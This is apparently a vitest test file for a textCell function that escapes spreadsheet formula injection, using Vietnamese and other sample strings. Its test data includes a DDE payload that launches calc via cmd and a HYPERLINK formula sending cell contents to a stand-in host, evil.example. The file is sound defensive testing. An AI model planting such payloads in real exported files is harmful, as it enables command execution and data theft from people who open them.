import { expect, test } from 'vitest';
import { textCell } from './text-cell.ts';

test.each([
  '=1+1',
  '+84 912 345 678',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1,1)',
  '\0=1+1',
  '  =1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '\u00A0=1+1',
  '\u3000＝1',
  '\tplain after a tab',
  '=HYPERLINK("http://evil.example?x="&A1,"xem")',
])('%j is kept from being a formula', (text) => {
  expect(textCell(text)).toBe(`'${text}`);
});

test.each(['', 'Cán bộ nhiệt tình', 'a = b', '5 sao', "'đã có dấu", '😀', 'مرحبا', '1-2', '12,5 %', '"quoted"'])(
  '%j is left as it is',
  (text) => {
    expect(textCell(text)).toBe(text);
  },
);

test.each([
  ['tốt;=1+1', "tốt;'=1+1"],
  ['tốt; \u00A0＝1+1', "tốt;' \u00A0＝1+1"],
  ['a\t@x\t+1', "a\t'@x\t'+1"],
  ['a\n=1+1', "a\n'=1+1"],
  ['a\r\n-1+1', "a\r\n'-1+1"],
  ['\t=1+1', "'\t'=1+1"],
  ['\r=1+1', "'\r'=1+1"],
  ['\n=1+1', "'\n'=1+1"],
  ['\uFEFF \t@x', "'\uFEFF \t'@x"],
  ['=1;=2', "'=1;'=2"],
  ['tốt; nhanh\nvui', 'tốt; nhanh\nvui'],
])('%j is no formula either where it is cut in pieces', (text, cell) => {
  expect(textCell(text)).toBe(cell);
});

test('nothing written is an empty cell', () => {
  expect(textCell(null)).toBe('');
});
